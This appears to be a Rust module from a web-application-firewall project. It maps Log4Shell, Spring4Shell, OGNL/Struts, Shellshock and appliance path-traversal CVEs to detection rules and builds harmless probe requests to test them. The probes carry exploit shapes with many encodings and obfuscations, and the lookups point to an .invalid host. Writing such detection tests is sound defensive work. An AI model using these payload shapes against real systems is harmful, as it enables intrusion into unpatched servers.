//! Virtual patches: which rules cover which weakness, and harmless requests that show that they do.

use std::collections::BTreeSet;

use crate::request::{Request, form};

/// A family of weaknesses that rules cover.
#[derive(Debug, Clone, Copy)]
pub struct Family {
    /// Its key, as in the tag `bedrail/family/…` of our rules.
    pub key: &'static str,
    /// What it is, for people.
    pub name: &'static str,
    /// The weaknesses. What our rules cover by chance is not listed.
    pub weaknesses: &'static [&'static str],
    /// Kinds of weaknesses that its rules look for (CWE). That a weakness is of one of them does not say that they stop it.
    pub kinds: &'static [&'static str],
    /// Components that have such weaknesses, by their usual names.
    pub components: &'static [&'static str],
    /// Our rules.
    pub rules: &'static [u32],
    /// Rules of the Core Rule Set 4 that cover it too, at paranoia level 1.
    pub core_rules: &'static [u32],
    /// What the rules do not see, for people.
    pub limits: &'static str,
    probes: fn() -> Vec<Request>,
}

impl Family {
    /// Harmless requests that these rules must stop: names that resolve to nothing (RFC 6761), commands that do nothing.
    /// They are meant for a sink; a device never receives them.
    pub fn probes(&self) -> Vec<Request> {
        (self.probes)()
    }
}

/// Every family.
pub const FAMILIES: &[Family] = &[
    Family {
        key: "log4shell",
        name: "Log4Shell and its successors (Apache Log4j 2)",
        weaknesses: &["CVE-2021-44228", "CVE-2021-45046", "CVE-2021-45105", "CVE-2021-44832"],
        kinds: &["CWE-20", "CWE-400", "CWE-502", "CWE-917"],
        components: &["log4j-core"],
        rules: &[78_100, 78_101, 78_102, 78_103],
        core_rules: &[944_150],
        limits: "data that reaches the log by another way than HTTP (DICOM, HL7 over MLLP, file names); text that an application decodes in a way of its own before it logs it",
        probes: log4shell,
    },
    Family {
        key: "spring4shell",
        name: "Spring4Shell and expressions of Spring",
        weaknesses: &["CVE-2022-22965", "CVE-2010-1622", "CVE-2022-22963", "CVE-2022-22947", "CVE-2018-1273"],
        kinds: &["CWE-94", "CWE-917"],
        components: &[
            "spring-beans",
            "spring-cloud-function-context",
            "spring-cloud-gateway",
            "spring-data-commons",
        ],
        rules: &[78_120, 78_121, 78_122],
        core_rules: &[944_260],
        limits: "parameters that a framework renames before it binds them",
        probes: spring,
    },
    Family {
        key: "ognl",
        name: "OGNL in Apache Struts and Confluence, objects of Java in XML",
        weaknesses: &[
            "CVE-2013-2251",
            "CVE-2013-2248",
            "CVE-2016-3081",
            "CVE-2017-5638",
            "CVE-2017-9791",
            "CVE-2017-9805",
            "CVE-2017-10271",
            "CVE-2018-11776",
            "CVE-2019-0230",
            "CVE-2020-17530",
            "CVE-2021-26084",
            "CVE-2021-39144",
            "CVE-2022-26134",
            "CVE-2023-22527",
            "CVE-2023-50164",
            "CVE-2024-53677",
        ],
        kinds: &["CWE-20", "CWE-94", "CWE-502", "CWE-917"],
        components: &["struts2-core", "confluence", "weblogic", "xstream"],
        rules: &[78_140, 78_141, 78_142, 78_143, 78_144, 78_145],
        core_rules: &[944_100, 944_110, 944_130],
        limits: "serialised objects of Java in binary bodies",
        probes: ognl,
    },
    Family {
        key: "shellshock",
        name: "Shellshock (bash behind CGI)",
        weaknesses: &[
            "CVE-2014-6271",
            "CVE-2014-6277",
            "CVE-2014-6278",
            "CVE-2014-7169",
            "CVE-2014-7186",
            "CVE-2014-7187",
        ],
        kinds: &["CWE-78"],
        components: &["bash"],
        rules: &[78_160, 78_161],
        core_rules: &[932_170, 932_171],
        limits: "variables that reach bash by another way than CGI (DHCP, SSH)",
        probes: shellshock,
    },
    Family {
        key: "traversal",
        name: "paths out of a folder, in well-known appliances and in general",
        weaknesses: &[
            "CVE-2018-13379",
            "CVE-2019-11510",
            "CVE-2019-19781",
            "CVE-2020-3452",
            "CVE-2020-5902",
            "CVE-2020-17519",
            "CVE-2021-26086",
            "CVE-2021-28164",
            "CVE-2021-34429",
            "CVE-2021-41773",
            "CVE-2021-42013",
            "CVE-2023-46805",
            "CVE-2024-24919",
            "CVE-2024-3400",
        ],
        kinds: &["CWE-22"],
        components: &[
            "httpd",
            "jetty",
            "flink",
            "jira",
            "fortios",
            "pulse connect secure",
            "netscaler",
            "big-ip",
            "pan-os",
        ],
        rules: &[78_170, 78_171, 78_172, 78_173, 78_174, 78_175, 78_176],
        core_rules: &[930_100, 930_110, 930_120, 930_130],
        limits: "an application that decodes a path in a way of its own",
        probes: traversal,
    },
];

/// The families that cover one of these weaknesses, by any of its names. Empty: no rule is known, and nothing is proposed.
pub fn covering<'a>(names: impl IntoIterator<Item = &'a str>) -> Vec<&'static Family> {
    let names: BTreeSet<String> = names.into_iter().map(str::to_uppercase).collect();
    FAMILIES
        .iter()
        .filter(|family| family.weaknesses.iter().any(|weakness| names.contains(*weakness)))
        .collect()
}

/// Shapes of Log4j lookups: as such, nested, with default values, encoded.
pub const LOG4J_SHAPES: &[&str] = &[
    "${jndi:ldap://bedrail-probe.invalid/a}",
    "${jndi:dns://bedrail-probe.invalid}",
    "${JNDI:rmi://bedrail-probe.invalid/a}",
    "${${lower:j}ndi:ldap://bedrail-probe.invalid/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://bedrail-probe.invalid/a}",
    "${${env:NONE:-j}ndi${env:NONE:-:}ldap://bedrail-probe.invalid/a}",
    "${j${k8s:k5:-ND}i:ldap://bedrail-probe.invalid/a}",
    "${jnd${upper:\u{131}}:ldap://bedrail-probe.invalid/a}",
    "${${date:'j'}${date:'n'}di:ldap://bedrail-probe.invalid/a}",
    "${${::-${::-$${::-j}}}}",
    "${ctx:loginId}",
    "${base64:JHtqbmRpOmxkYXA6Ly94L2F9}",
    "$%7Bjndi:ldap://bedrail-probe.invalid/a}",
    "%24%7Bjndi:ldap://bedrail-probe.invalid/a%7D",
    "%2524%257Bjndi:ldap://bedrail-probe.invalid/a%257D",
    "\\u0024\\u007bjndi:ldap://bedrail-probe.invalid/a\\u007d",
    "%u0024%u007bjndi:ldap://bedrail-probe.invalid/a}",
    "&dollar;&lbrace;jndi:ldap://bedrail-probe.invalid/a}",
    "&#36;&#123;jndi:ldap://bedrail-probe.invalid/a}",
    "JHtqbmRpOmxkYXA6Ly9iZWRyYWlsLXByb2JlLmludmFsaWQvYX0=",
    "dXNlcjoke2puZGk6bGRhcDovL2JlZHJhaWwtcHJvYmUuaW52YWxpZC9hfQ==",
    "JHske2xvd2VyOmp9bmRpOmxkYXA6Ly94L2F9",
];

/// Headers that applications log.
pub const LOGGED_HEADERS: &[&str] = &[
    "User-Agent",
    "Referer",
    "X-Forwarded-For",
    "X-Api-Version",
    "X-Forwarded-Host",
    "Origin",
    "Accept-Language",
    "Accept",
    "Cookie",
    "From",
    "X-Client-IP",
    "X-Real-IP",
    "If-Modified-Since",
    "X-Wap-Profile",
    "Forwarded",
    "Via",
    "CF-Connecting-IP",
    "True-Client-IP",
    "X-Request-Id",
    "Authorization",
];

fn log4shell() -> Vec<Request> {
    LOG4J_SHAPES.iter().flat_map(|shape| log4shell_everywhere(shape)).collect()
}

/// One shape at every place of a request.
pub fn log4shell_everywhere(shape: &str) -> Vec<Request> {
    let name = |place: &str| format!("log4shell in {place}: {shape}");
    let json = serde_json::json!({"a": [{"b": shape}]}).to_string();
    let xml = shape.replace('&', "&amp;").replace('<', "&lt;");
    let part = |head: &str, body: &str| {
        format!("--b\r\nContent-Disposition: form-data; {head}\r\n\r\n{body}\r\n--b--\r\n")
    };
    let multipart = |place: &str, body: String| {
        Request::new(name(place), "POST", "/").body("multipart/form-data; boundary=b", body)
    };
    let encoded = form(shape);
    let mut all = vec![
        Request::new(name("path"), "GET", format!("/{}/a", encoded.replace('+', "%20"))),
        Request::new(name("query"), "GET", format!("/?q={encoded}")),
        Request::new(name("name of a parameter"), "GET", format!("/?{encoded}=1")),
        Request::new(name("form"), "POST", "/")
            .body("application/x-www-form-urlencoded", format!("a={encoded}")),
        Request::new(name("JSON"), "POST", "/").body("application/json", json.clone()),
        Request::new(name("FHIR"), "POST", "/fhir/Patient").body("application/fhir+json", json),
        Request::new(name("XML"), "POST", "/")
            .body("application/xml", format!("<a b=\"{}\">x</a>", xml.replace('"', "&quot;"))),
        Request::new(name("text of XML"), "POST", "/").body("text/xml", format!("<a>{xml}</a>")),
        Request::new(name("HL7 v2"), "POST", "/hl7").body(
            "application/hl7-v2",
            format!("MSH|^~\\&|A|B|C|D|20261127||ORU^R01|1|P|2.5.1\rNTE|1|L|{shape}\r"),
        ),
        Request::new(name("plain text"), "PUT", "/a.txt").body("text/plain", shape),
        multipart("a field of a form with files", part("name=\"a\"", shape)),
        multipart("a file", part("name=\"a\"; filename=\"a.txt\"\r\nContent-Type: text/plain", shape)),
    ];
    // A quoted name cannot hold a back slash as such (RFC 7578, 4.2).
    if !shape.contains(['"', '\\']) {
        all.push(multipart("the name of a file", part(&format!("name=\"a\"; filename=\"{shape}\""), "x")));
    }
    // HTTP header values are bytes; what is no ASCII is left to bodies.
    if shape.is_ascii() {
        let with = |header: &&str| Request::new(name(header), "GET", "/").with(header, shape);
        all.extend(LOGGED_HEADERS.iter().map(with));
    }
    all
}

fn spring() -> Vec<Request> {
    let parameter = "class.module.classLoader.resources.context.parent.pipeline.first.pattern";
    let form_body = format!("{parameter}=bedrail");
    vec![
        Request::new("spring4shell in the query", "GET", format!("/?{parameter}=bedrail")),
        Request::new(
            "spring4shell in the query, encoded",
            "GET",
            "/?class%2emodule%2eclassLoader%2eURLs%5b0%5d=0",
        ),
        Request::new("spring4shell in the query, brackets", "GET", "/?class[module][classLoader][a]=0"),
        Request::new("spring4shell in a form", "POST", "/")
            .body("application/x-www-form-urlencoded", form_body),
        Request::new(
            "spring4shell, elder",
            "GET",
            "/?class.classLoader.URLs[0]=jar:http://bedrail-probe.invalid/a.jar!/",
        ),
        Request::new("spring cloud function", "POST", "/functionRouter")
            .with("spring.cloud.function.routing-expression", "T(java.lang.Math).random()"),
        Request::new("spring cloud gateway", "POST", "/actuator/gateway/routes/a").body(
            "application/json",
            "{\"filters\":[{\"args\":{\"value\":\"#{T(java.lang.Math).random()}\"}}]}",
        ),
    ]
}

fn ognl() -> Vec<Request> {
    let member = "%{(#_memberAccess['allowStaticMethodAccess']=true)}";
    let xstream =
        "<map><entry><jdk.nashorn.internal.objects.NativeString/><java.lang.ProcessBuilder/></entry></map>";
    let upload = "--b\r\nContent-Disposition: form-data; name=\"Upload\"; filename=\"a.txt\"\r\n\r\nx\r\n--b\r\nContent-Disposition: form-data; name=\"uploadFileName\"\r\n\r\n../../a.txt\r\n--b--\r\n";
    vec![
        Request::new("struts Content-Type", "GET", "/index.action")
            .with("Content-Type", "%{(#bedrail='multipart/form-data').(#a=1)}"),
        Request::new("struts namespace in the path", "GET", "/%24%7B(1+1)%7D/index.action"),
        Request::new("confluence path", "GET", "/%24%7B%40java.lang.Math%40random%28%29%7D/"),
        Request::new("struts in the query", "GET", format!("/index.action?id={}", form(member))),
        Request::new("struts, double evaluation", "GET", format!("/index.action?id={}", form("%{7*7}"))),
        Request::new("struts redirect", "GET", format!("/index.action?redirect:{}", form("${#a=1}"))),
        Request::new(
            "struts method",
            "GET",
            format!(
                "/index.action?method:{}",
                form("#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS")
            ),
        ),
        Request::new("confluence query", "POST", "/pages/doenterpagevariables.action").body(
            "application/x-www-form-urlencoded",
            format!("queryString={}", form("\\u0027+{Class.forName(\\u0027java.lang.Math\\u0027)}+\\u0027")),
        ),
        Request::new("struts REST, XStream", "POST", "/orders").body("application/xml", xstream),
        Request::new("struts upload", "POST", "/upload.action")
            .body("multipart/form-data; boundary=b", upload),
    ]
}

fn shellshock() -> Vec<Request> {
    let shapes = [
        "() { :;}; echo bedrail",
        "() { _; } >_[$($())] { echo bedrail; }",
        "(){ :;};echo",
        "%28%29%20%7b%20%3a%3b%7d%3b echo bedrail",
    ];
    let headers = ["User-Agent", "Referer", "Cookie", "Accept", "X-Bedrail-Probe"];
    let all = shapes.iter().flat_map(|shape| {
        headers.iter().map(move |header| {
            let request = Request::new(format!("shellshock in {header}: {shape}"), "GET", "/cgi-bin/status");
            request.with(header, if *header == "Cookie" { format!("a={shape}") } else { (*shape).to_owned() })
        })
    });
    all.collect()
}

fn traversal() -> Vec<Request> {
    let targets = [
        "/vpn/../vpns/cfg/smb.conf",
        "/vpn/%2e%2e/vpns/portal/scripts/newbm.pl",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
        "/dana-na/../dana/html5acc/guacamole/../../../../etc/hosts?/dana/html5acc/guacamole/",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
        "/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/hosts",
        "/cgi-bin/%%32%65%%32%65/etc/hosts",
        "/icons/%2e%%32%65/etc/hosts",
        "/jobmanager/logs/..%252f..%252f..%252fetc%252fhosts",
        "/api/v1/totp/user-backup-code/../../system/system-information",
        "/static/%2e/WEB-INF/web.xml",
        "/%2557EB-INF/web.xml",
        "/s/x/_/;/WEB-INF/web.xml",
        "/..%5c..%5cwindows%5cwin.ini",
        "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts",
        "/download?file=../../../../etc/hosts",
        "/download?file=..%2f..%2f..%2fetc%2fhosts",
        "/view?page=....//....//etc/hosts",
    ];
    let mut all: Vec<Request> = targets
        .iter()
        .map(|target| Request::new(format!("path out of a folder: {target}"), "GET", *target))
        .collect();
    all.push(
        Request::new("GlobalProtect cookie", "POST", "/ssl-vpn/hipreport.esp")
            .with("Cookie", "SESSID=/../../../opt/panlogs/tmp/bedrail"),
    );
    all.push(
        Request::new("Check Point file", "POST", "/clients/MyCRL")
            .body("text/plain", "aCSHELL/../../../../../../../etc/hosts"),
    );
    all
}
